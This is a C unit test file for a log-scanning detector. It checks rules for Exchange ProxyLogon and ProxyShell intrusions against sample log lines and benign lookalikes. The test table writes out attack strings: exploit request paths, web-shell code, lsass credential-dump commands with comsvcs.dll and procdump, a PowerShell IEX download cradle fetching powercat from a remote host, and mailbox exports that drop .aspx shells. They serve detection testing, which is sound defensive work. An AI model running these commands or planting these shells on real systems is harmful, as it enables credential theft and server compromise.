/* test_line_rules.c - every line rule of the shipped profiles, held against a line that it is about and one that it is not. */
#include <stdarg.h>
#include <setjmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <cmocka.h>

#include "literals.h"
#include "profile.h"

/* A HttpProxy row with this AnchorMailbox and status, and an IIS row with this request and status. */
#define PROXY(anchor, status) \
	"2021-02-28T03:14:02.141Z,3f1c,15,1,2106,2,,Ecp,mail.example.test,/ecp/y.js,,,false,,," anchor \
	",ExchangeServicesClient/0.0.0.0,203.0.113.5,EXCH01," status "," status ",,POST,,exch01.example.test,15.01.2106.000,ServerInfo," \
	"X-BEResource-Cookie,,,,"
#define IIS(request, status) \
	"2021-02-28 03:14:01 10.0.0.5 " request " - 443 - 203.0.113.5 python-requests/2.25.1 - " status " 0 0 125"

/* Rules that hit, blank between, in order of id; "" for none. */
static const struct {
	const char *line, *rules;
} lines[] = {
	{ PROXY("ServerInfo~a]@exch01.example.test:444/ecp/proxyLogon.ecp?#", "241"), "L001 L005" },
	{ PROXY("ServerInfo~a]@exch01.example.test:444/ecp/proxyLogon.ecp?#", "500"), "L006" },
	{ PROXY("ServerInfo~a]@exch01:444/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=x&schema=OABVirtualDirectory#", "200"), "L002 L005" },
	{ PROXY("ServerInfo~a]@exch01:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=OABVirtualDirectory#", "200"), "L003 L005" },
	{ PROXY("ServerInfo~a]@exch01:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=ResetOABVirtualDirectory#", "200"),
	  "L004 L005" },
	{ PROXY("ServerInfo~a]@exch01:444/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=x&schema=ResetOABVirtualDirectory#", "401"),
	  "L006" },
	{ PROXY("ServerInfo~a]@exch01.example.test:444/autodiscover/autodiscover.xml?#", "200"), "L007" },
	{ PROXY("ServerInfo~localhost/ecp/default.flt?#", "500"), "L007" },
	{ PROXY("Smtp~user@example.test", "200"), "L008" },
	{ "2021-02-28T03:14:02.141Z,3f1c,15,1,2106,2,,Owa,mail.example.test,/owa/,,FBA,true,EXAMPLE\\user,,Sid~S-1-5-21-1-2-3-1104,"
	  "Mozilla/5.0,10.0.0.21,EXCH01,200,200,,GET,Proxy,exch01.example.test,15.01.2106.000,IntraForest,WindowsIdentity,,,,", "" },
	{ IIS("POST /ecp/y.js", "200"), "L010" },
	{ IIS("POST /ecp/y.js", "500"), "L015" },
	{ IIS("GET /ecp/y.js", "200"), "" },
	{ IIS("POST /owa/auth/Current/themes/resources/logon.css", "200"), "L011" },
	{ IIS("POST /owa/auth/Current/themes/resources/logon.css", "405"), "L016" },
	{ IIS("GET /owa/auth/Current/themes/resources/logon.css", "200"), "" },
	{ IIS("POST /ecp/main.css", "200"), "L012" },
	{ IIS("POST /ecp/main.css", "404"), "L017" },
	{ IIS("POST /aspnet_client/supp0rt.aspx", "200"), "L013" },
	{ IIS("POST /aspnet_client/supp0rt.aspx", "404"), "" },
	{ IIS("POST /owa/auth/logon.aspx", "200"), "" },
	{ IIS("POST /owa/auth.owa", "302"), "" },
	{ IIS("GET /aspnet_client/it.zip", "200"), "L014" },
	{ IIS("GET /aspnet_client/it.zip", "404"), "" },
	{ "2021-02-28T03:14:05.437Z,EXCH01,ECP.Request,S:PSA=x;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"\"JScript\"\"'.Identity='x'",
	  "L020" },
	{ "2021-03-11T09:05:00.100Z,EXCH01,ECP.Request,S:CMD=Set-OabVirtualDirectory.ExternalUrl='https://mail.example.test/oab'.Identity='x'", "" },
	{ "x,eval(Request[\"\"code\"\"],\"\"unsafe\"\");", "L022" },
	{ "the cast is unsafe here", "" },
	{ "2021-03-02T03:00:01.000Z,1,Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\a.aspx' needs to be removed", "L030" },
	{ "2021-03-02T03:00:01.000Z,1,Download failed and temporary file 'C:\\Exchange\\V15\\ClientAccess\\OAB\\Temp\\a.tmp' needs to be removed", "" },
	{ "cmd /c cd /d c:\\&whoami&echo [S]&cd&echo [E]", "L040" },
	{ "rundll32 C:\\windows\\System32\\comsvcs.dll, MiniDump 640 C:\\windows\\temp\\l.dmp full", "L041" },
	{ "comsvcs.dll was registered", "" },
	{ "procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\l.dmp", "L042" },
	{ "procdump64.exe -ma notepad.exe", "" },
	{ "7z.exe a -t7z -r C:\\ProgramData\\it.zip C:\\ProgramData\\pst", "L043" },
	{ "IEX (New-Object Net.WebClient).DownloadString('http://x/powercat.ps1')", "L044" },
	{ "net group \"Exchange Organization administrators\" administrator /del /domain", "L045" },
	{ IIS("POST /autodiscover/autodiscover.json?@evil.test/powershell/?&Email=autodiscover/autodiscover.json%3F@evil.test", "200"), "PL01" },
	{ IIS("GET /autodiscover/autodiscover.json?Email=user@example.test&Protocol=ActiveSync", "200"), "" },
	{ IIS("POST /powershell X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z", "200"), "PL02" },
	{ "New-MailboxExportRequest -Mailbox a -FilePath \\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\a.aspx", "PL03" },
	{ "New-MailboxExportRequest -Mailbox a -FilePath \\\\backup\\pst\\a.pst", "" },
	{ "New-ExchangeCertificate -GenerateRequest -RequestFile C:\\inetpub\\wwwroot\\aspnet_client\\b.aspx", "PL04" },
	{ "New-ManagementRoleAssignment -Role \"Mailbox Import Export\" -User admin", "PL05" },
	{ IIS("POST /owa/user%40example.test/powershell", "200"), "PL06" },
};

struct asking {
	struct line_matcher *matcher;
	struct view line;
	const struct rule *hit[32];
	size_t n;
};

static int
take(void *state, size_t offset, uint32_t which)
{
	struct asking *a = state;
	const struct rule *rule = line_rule(a->matcher, which, a->line);

	(void)offset;
	for (size_t i = 0; i < a->n && rule; i++)
		if (a->hit[i] == rule)
			rule = NULL;
	if (rule)
		a->hit[a->n++] = rule;
	return 0;
}

static int
by_id(const void *a, const void *b)
{
	return strcmp((*(const struct rule *const *)a)->id, (*(const struct rule *const *)b)->id);
}

static void
every_rule_meets_its_lines_and_no_others(void **state)
{
	static const char *const names[] = { "hafnium", "proxyshell" };
	CLEANUP(profile_free) struct profile *profile = NULL;
	CLEANUP(line_matcher_close) struct line_matcher *matcher = NULL;
	CLEANUP(literals_close) struct literals *literals = NULL;
	const struct view *all;
	size_t n;

	(void)state;
	assert_int_equal(profile_load(names, 2, true, &profile), 0);
	n = profile_literals(profile, &all);
	assert_int_equal(literals_open(all, n, &literals), 0);
	assert_int_equal(line_matcher_open(profile, &matcher), 0);
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++) {
		struct asking a = { .matcher = matcher, .line = view_text(lines[i].line) };
		char hits[256] = "";

		assert_int_equal(literals_scan(literals, a.line, take, &a), 0);
		qsort(a.hit, a.n, sizeof(a.hit[0]), by_id);
		for (size_t j = 0; j < a.n; j++) {
			strcat(hits, j ? " " : "");
			strcat(hits, a.hit[j]->id);
		}
		if (strcmp(hits, lines[i].rules))
			fail_msg("'%s' and not '%s': %s", hits, lines[i].rules, lines[i].line);
	}
}

/* A rule that the table above never names is one that nobody has seen work. */
static void
no_rule_is_left_untried(void **state)
{
	static const char *const names[] = { "hafnium", "proxyshell" };
	CLEANUP(profile_free) struct profile *profile = NULL;
	const struct rule *const *rules;
	size_t n;

	(void)state;
	assert_int_equal(profile_load(names, 2, true, &profile), 0);
	n = profile_rules(profile, &rules);
	for (size_t i = 0; i < n; i++) {
		bool tried = rules[i]->kind != RULE_IOC;

		for (size_t j = 0; j < sizeof(lines) / sizeof(lines[0]) && !tried; j++)
			tried = strstr(lines[j].rules, rules[i]->id);
		if (!tried)
			fail_msg("no line for %s", rules[i]->id);
		assert_int_equal(rules[i]->state, RULE_USED);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_rule_meets_its_lines_and_no_others),
		cmocka_unit_test(no_rule_is_left_untried),
	};

	return cmocka_run_group_tests_name("line rules", tests, NULL, NULL);
}
